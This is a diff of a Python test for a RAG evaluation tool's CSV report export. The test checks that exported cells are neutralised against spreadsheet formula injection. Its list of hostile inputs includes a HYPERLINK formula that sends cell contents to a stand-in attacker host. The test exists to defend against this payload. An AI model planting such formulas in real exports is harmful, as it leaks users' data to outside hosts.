@@ -12,10 +12,10 @@ from click.testing import CliRunner
 
 from localrag.cli.group import cli
 from localrag.evaluation.dataset import Context, Sample
-from localrag.evaluation.reports.report import Report
-from localrag.evaluation.runs import EvaluatedRun
-from localrag.evaluation.scoring import Evidence, Response, Score, Scored
-from localrag.presentation.csv_table import cell, write_csv
+from localrag.evaluation.metric import Evidence, Response, Score
+from localrag.evaluation.results import EvaluatedRun, Report
+from localrag.evaluation.scoring import Scored
+from localrag.presentation.csv_table import cell, csv_table
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"see")',
@@ -64,14 +64,12 @@ def test_a_whole_report_is_read_back_with_nothing_to_compute() -> None:
             Response(text, (Context(text, f"{text}.pdf", 3, 3),), 1.5),
             {"faithfulness": Score(-0.25, "scored"), "f1": Score(None, "undefined")},
             Evidence(),
-            0.0,
             False,
         )
         for text in [*HOSTILE, 'He said "no",\nand left.']
     )
-    file = io.StringIO(newline="")
-    write_csv(Report("d", "", None, (EvaluatedRun("=run", scored),)), file)
-    rows = list(csv.reader(io.StringIO(file.getvalue(), newline="")))
+    whole = csv_table(Report("d", "", None, (EvaluatedRun("=run", scored),))).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(whole, newline="")))
     head, *body = rows
     assert head[-2:] == ["faithfulness", "f1"]
     assert len(body) == len(scored)
@@ -81,8 +79,8 @@ def test_a_whole_report_is_read_back_with_nothing_to_compute() -> None:
             bare = text.lstrip("\ufeff\u200b\ufffd").lstrip()
             assert not bare.startswith(("=", "+", "-", "@", "＝", "＠"))
     assert body[-1][5] == 'He said "no",\nand left.'
-    assert ",-0.25," in file.getvalue()
-    assert '"1.5"' not in file.getvalue()
+    assert ",-0.25," in whole
+    assert '"1.5"' not in whole
 
 
 def test_the_command_writes_it(tmp_path: Path) -> None:
